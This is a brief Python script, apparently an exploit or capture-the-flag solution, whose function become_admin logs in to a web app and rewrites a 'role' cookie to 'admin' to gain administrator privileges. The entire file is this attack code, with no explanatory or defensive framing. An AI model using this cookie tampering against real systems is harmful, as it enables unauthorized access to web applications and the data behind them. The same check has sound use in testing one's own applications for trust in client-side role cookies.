import requests


def become_admin(url):
    client = requests.Session()
    client.post(url + "/login")
    for cookie in client.cookies:
        if cookie.name == "role":
            cookie.value = "admin"
    return client
